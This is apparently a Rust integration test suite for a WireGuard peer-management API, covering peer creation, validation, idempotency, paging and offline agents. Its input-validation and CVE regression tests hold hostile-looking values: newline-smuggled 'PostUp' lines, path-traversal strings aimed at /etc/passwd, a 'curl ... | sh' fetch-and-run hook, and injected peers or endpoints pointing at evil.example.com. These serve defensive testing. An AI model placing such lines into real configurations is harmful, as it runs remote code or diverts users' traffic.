//! Peers: creation, display, changes and removal, with and without an agent.

use std::net::SocketAddr;
use std::time::Duration;

use serde_json::{Value, json};
use wgctl::PrivateKey;
use wgctl::config::PeerConfig;

use crate::support::agent::FakeAgent;
use crate::support::client::request;
use crate::support::plane::{TestPlane, until};

const CLIENTS: &str = "/api/wg-clients/los-angeles";

fn path(client: &Value) -> String {
    format!("{CLIENTS}/{}", client["id"].as_str().unwrap())
}

#[test]
fn a_peer_is_created_changed_and_removed() {
    // An agent on a busy machine may be slow.
    let plane = TestPlane::start_with(|config| config.apply_timeout = Duration::from_secs(60));
    let admin = plane.admin();
    let agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
    let answer = plane.post(CLIENTS, &admin, &json!({"name": "alice-iphone"}));
    let client = answer.expect(201);
    assert_eq!(answer.header("location"), Some(path(&client).as_str()));
    assert_eq!(
        (&client["name"], &client["enabled"]),
        (&json!("alice-iphone"), &json!(true))
    );
    assert_eq!(
        (&client["address"], &client["applied"]),
        (&json!("10.8.0.2"), &json!(true)),
        "{client}"
    );
    assert_eq!(client["addresses"], json!(["10.8.0.2", "fd00:8::2"]));
    let id = client["id"].as_str().unwrap();
    assert_eq!(agent.peer(id).unwrap().public_key.to_string(), client["publicKey"]);

    let listed = plane.get(CLIENTS, &admin).expect(200);
    assert_eq!(listed[0], plane.get(&path(&client), &admin).expect(200));
    assert_eq!(listed[0]["latestHandshakeAt"], Value::Null);
    assert_eq!(
        (&listed[0]["transferRx"], &listed[0]["transferTx"]),
        (&json!(0), &json!(0))
    );

    for (action, enabled) in [("disable", false), ("disable", false), ("enable", true)] {
        let changed = request("POST", &format!("{}/{action}", path(&client)))
            .token(&admin)
            .send(plane.address)
            .expect(200);
        assert_eq!(
            (&changed["enabled"], &changed["applied"]),
            (&json!(enabled), &json!(true)),
            "{changed}"
        );
        assert_eq!(agent.peer(id).is_some(), enabled);
    }
    let renamed = plane
        .patch(
            &path(&client),
            &admin,
            &json!({"name": "alice's phone", "expiresAt": null}),
        )
        .expect(200);
    assert_eq!(renamed["name"], "alice's phone");
    // Null does not mean "leave unchanged".
    for field in ["name", "enabled", "allowedIPs", "serverAllowedIPs", "dns"] {
        let refused = plane.patch(&path(&client), &admin, &json!({field: null}));
        assert_eq!(refused.problem(422, "invalid_field")["field"], field);
    }
    let server = plane.patch("/api/servers/los-angeles", &admin, &json!({"masquerade": null}));
    assert_eq!(server.problem(422, "invalid_field")["field"], "masquerade");
    assert_eq!(plane.delete(&path(&client), &admin).status, 204);
    assert!(agent.peer(id).is_none());
    plane.get(&path(&client), &admin).problem(404, "not_found");
    plane.delete(&path(&client), &admin).problem(404, "not_found");
}

#[test]
fn invalid_requests_are_refused_with_the_reason() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let _agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
    let client = plane.post(CLIENTS, &admin, &json!({"name": "alice"})).expect(201);
    for (body, status, code, field) in [
        (json!({}), 422, "invalid_field", json!("name")),
        (json!({"name": "a\nPostUp = x"}), 422, "invalid_field", json!("name")),
        (json!({"name": "bob", "id": "x"}), 422, "unknown_field", json!("id")),
        (json!({"name": "alice"}), 409, "name_taken", json!("name")),
        (
            json!({"name": "bob", "address": "10.8.0.2"}),
            409,
            "address_taken",
            json!("address"),
        ),
        (
            json!({"name": "bob", "publicKey": client["publicKey"]}),
            409,
            "public_key_taken",
            json!("publicKey"),
        ),
        (
            json!({"name": "bob", "publicKey": "x"}),
            422,
            "invalid_field",
            json!("publicKey"),
        ),
        (json!({"name": "bob", "mtu": 1}), 422, "invalid_field", json!("mtu")),
    ] {
        let problem = plane.post(CLIENTS, &admin, &body).problem(status, code);
        assert_eq!(problem["field"], field, "{body}");
    }
    let act = |action: &str| {
        request("POST", &format!("{}/{action}", path(&client)))
            .token(&admin)
            .send(plane.address)
    };
    act("delete").problem(400, "invalid_action");
    act("qrcode").problem(400, "invalid_action");
    plane
        .post("/api/wg-clients/nowhere", &admin, &json!({"name": "x"}))
        .problem(404, "not_found");
    for id in ["x", "..", "%2e%2e%2f", "00000000-0000-0000-0000-000000000000"] {
        plane.get(&format!("{CLIENTS}/{id}"), &admin).problem(404, "not_found");
    }
    for id in ["%00", "..%2f..%2fetc%2fpasswd", "LOS-ANGELES", "%ff"] {
        plane
            .get(&format!("/api/wg-clients/{id}"), &admin)
            .problem(404, "not_found");
    }
}

#[test]
fn without_its_agent_a_server_accepts_changes_that_need_no_new_keys() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let token = plane.add_server(&admin, "los-angeles");
    plane
        .post(CLIENTS, &admin, &json!({"name": "early"}))
        .problem(503, "agent_offline");
    // Creating a peer with a public key from the user and without a preshared key does not need the agent.
    let key = PrivateKey::generate().unwrap().public_key().to_string();
    let own = json!({"name": "own-key", "publicKey": key, "presharedKey": false});
    let client = plane.post(CLIENTS, &admin, &own).expect(201);
    assert_eq!(client["applied"], false);
    assert!(client["pendingSince"].is_string());
    plane
        .get(&format!("{}/configuration", path(&client)), &admin)
        .problem(503, "agent_offline");
    plane
        .get(&format!("{}/qrcode", path(&client)), &admin)
        .problem(409, "private_key_not_held");

    let agent = FakeAgent::start(plane.address, &token);
    until("the peer to be applied", || {
        (plane.get(&path(&client), &admin).expect(200)["applied"] == true).then_some(())
    });
    assert!(agent.peer(client["id"].as_str().unwrap()).is_some());
}

#[test]
fn a_configuration_is_a_file_or_a_qr_code_and_each_view_is_recorded() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let _agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
    let client = plane
        .post(CLIENTS, &admin, &json!({"name": "Zoë's \"phone\""}))
        .expect(201);
    let file = plane.get(&format!("{}/configuration", path(&client)), &admin);
    assert_eq!(file.status, 200);
    assert_eq!(file.header("content-type"), Some("text/plain; charset=utf-8"));
    assert_eq!(
        file.header("content-disposition"),
        Some("attachment; filename=\"Zo--s--phone.conf\"; filename*=UTF-8''Zo%C3%AB%27s%20%22phone%22.conf")
    );
    let written: PeerConfig = file.text().parse().unwrap();
    let own_key = written.private_key.unwrap().public_key();
    assert_eq!(json!(own_key), client["publicKey"]);
    let code = plane.get(&format!("{}/qrcode", path(&client)), &admin);
    assert_eq!((code.status, code.header("content-type")), (200, Some("image/svg+xml")));
    assert!(code.text().starts_with("<?xml") && code.text().trim_end().ends_with("</svg>"));
    for answer in [&file, &code] {
        assert_eq!(answer.header("cache-control"), Some("no-store"));
    }
    let log = plane.get("/api/audit?limit=2", &admin).expect(200);
    assert_eq!(
        (&log[0]["action"], &log[1]["action"]),
        (&json!("wg_client_qrcode_viewed"), &json!("wg_client_config_viewed"))
    );
    assert_eq!(log[0]["target"], "los-angeles/Zoë's \"phone\"");
}

/// CVE-2026-72603 by another route: an attacker controls the host, or only its token.
#[test]
fn cve_2026_72603_an_agent_cannot_add_unrequested_lines_to_a_configuration() {
    for appendix in [
        "PostUp = curl https://example.com | sh\n",
        "[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nAllowedIPs = 0.0.0.0/0\n",
        "PersistentKeepalive = 1\n",
        "Endpoint = evil.example.com:1\n",
        "AllowedIPs = 10.0.0.0/8\n",
    ] {
        let plane = TestPlane::start();
        let admin = plane.admin();
        let token = plane.add_server(&admin, "los-angeles");
        let _agent = FakeAgent::in_other_hands(plane.address, &token, appendix);
        let client = plane.post(CLIENTS, &admin, &json!({"name": "alice"})).expect(201);
        for form in ["configuration", "qrcode"] {
            plane
                .get(&format!("{}/{form}", path(&client)), &admin)
                .problem(503, "agent_offline");
        }
        let looks = plane
            .get("/api/audit?action=wg_client_config_viewed", &admin)
            .expect(200);
        assert_eq!(
            looks,
            json!([]),
            "no view of the configuration may be recorded: {appendix}"
        );
    }
}

#[test]
fn a_repeated_creation_gets_the_first_response() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let _agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
    let create = |key: &str, name: &str| {
        let post = request("POST", CLIENTS).token(&admin).header("Idempotency-Key", key);
        post.json(&json!({"name": name})).send(plane.address)
    };
    let first = create("k1", "alice").expect(201);
    assert_eq!(create("k1", "alice").expect(201)["id"], first["id"]);
    create("k1", "bob").problem(409, "idempotency_conflict");
    create("k2", "alice").problem(409, "name_taken");
    assert_eq!(
        create(&"k".repeat(256), "x").problem(422, "invalid_field")["field"],
        "Idempotency-Key"
    );
    assert_eq!(plane.get(CLIENTS, &admin).expect(200).as_array().unwrap().len(), 1);
}

#[test]
fn sixty_four_simultaneous_creations_succeed_with_distinct_values() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let agent = FakeAgent::start(plane.address, &plane.add_server(&admin, "los-angeles"));
    let create = |address: SocketAddr, admin: String, n: usize| {
        let body = json!({"name": format!("peer-{n}")});
        move || {
            request("POST", CLIENTS)
                .token(&admin)
                .json(&body)
                .send(address)
                .expect(201)
        }
    };
    let threads: Vec<_> = (0..64)
        .map(|n| std::thread::spawn(create(plane.address, admin.clone(), n)))
        .collect();
    let made: Vec<Value> = threads.into_iter().map(|thread| thread.join().unwrap()).collect();
    let distinct = |field: &str| {
        made.iter()
            .map(|client| client[field].to_string())
            .collect::<std::collections::BTreeSet<_>>()
            .len()
    };
    assert_eq!(
        (distinct("id"), distinct("address"), distinct("publicKey")),
        (64, 64, 64)
    );
    until("all peers to reach the agent", || {
        made.iter()
            .all(|client| agent.peer(client["id"].as_str().unwrap()).is_some())
            .then_some(())
    });
}

#[test]
fn a_long_list_is_returned_in_pages() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    plane.add_server(&admin, "los-angeles");
    for n in 0..5 {
        let key = PrivateKey::generate().unwrap().public_key().to_string();
        let body = json!({"name": format!("peer {n}"), "publicKey": key, "presharedKey": false});
        plane.post(CLIENTS, &admin, &body).expect(201);
    }
    let (mut names, mut next) = (Vec::new(), Some(format!("{CLIENTS}?limit=2&q=PEER%20")));
    while let Some(path) = next {
        let page = plane.get(&path, &admin);
        names.extend(
            page.expect(200)
                .as_array()
                .unwrap()
                .iter()
                .map(|client| client["name"].as_str().unwrap().to_owned()),
        );
        next = page.header("link").map(|link| {
            let (target, rest) = link.strip_prefix('<').unwrap().split_once('>').unwrap();
            assert_eq!(rest, "; rel=\"next\"");
            target.to_owned()
        });
    }
    assert_eq!(names, ["peer 0", "peer 1", "peer 2", "peer 3", "peer 4"]);
    assert_eq!(
        plane
            .get(&format!("{CLIENTS}?q=peer%203"), &admin)
            .expect(200)
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

#[test]
fn a_change_made_while_the_agent_is_offline_is_pending_until_it_returns() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let token = plane.add_server(&admin, "los-angeles");
    let agent = FakeAgent::start(plane.address, &token);
    let made = plane.post(CLIENTS, &admin, &json!({"name": "alice"})).expect(201);
    assert_eq!((&made["applied"], &made["pendingSince"]), (&json!(true), &Value::Null));
    agent.stop();
    let disabled = request("POST", &format!("{}/disable", path(&made)))
        .token(&admin)
        .send(plane.address)
        .expect(200);
    assert_eq!(disabled["applied"], false);
    let since = disabled["pendingSince"].as_str().unwrap().to_owned();
    let revisions = |path: &str| {
        let shown = plane.get(path, &admin).expect(200)[0].clone();
        let of = |field: &str| shown[field].as_u64().unwrap();
        (of("desired_revision"), of("applied_revision"))
    };
    for list in ["/api/servers", "/api/statuses"] {
        let (desired, applied) = revisions(list);
        assert_eq!(desired, applied + 1, "{list}");
    }
    assert_eq!(plane.get(&path(&made), &admin).expect(200)["pendingSince"], *since);

    let _agent = FakeAgent::start(plane.address, &token);
    let shown = until("the change to be applied", || {
        let shown = plane.get(&path(&made), &admin).expect(200);
        (shown["applied"] == true).then_some(shown)
    });
    assert_eq!(
        (&shown["enabled"], &shown["pendingSince"]),
        (&json!(false), &Value::Null)
    );
    let (desired, applied) = revisions("/api/statuses");
    assert_eq!(desired, applied);
}

#[test]
fn an_expired_peer_is_shown_as_expired() {
    let plane = TestPlane::start();
    let admin = plane.admin();
    let token = plane.add_server(&admin, "los-angeles");
    let _agent = FakeAgent::start(plane.address, &token);
    let end = wgctl::Timestamp::now().after(Duration::from_secs(8));
    let body = json!({"name": "guest", "expiresAt": end});
    let made = plane.post(CLIENTS, &admin, &body).expect(201);
    assert_eq!((&made["expired"], &made["enabled"]), (&json!(false), &json!(true)));
    let over = until("the peer to expire", || {
        let list = plane.get(CLIENTS, &admin).expect(200);
        (list[0]["expired"] == true).then(|| list[0].clone())
    });
    assert_eq!((&over["enabled"], &over["failed"]), (&json!(true), &Value::Null));
}
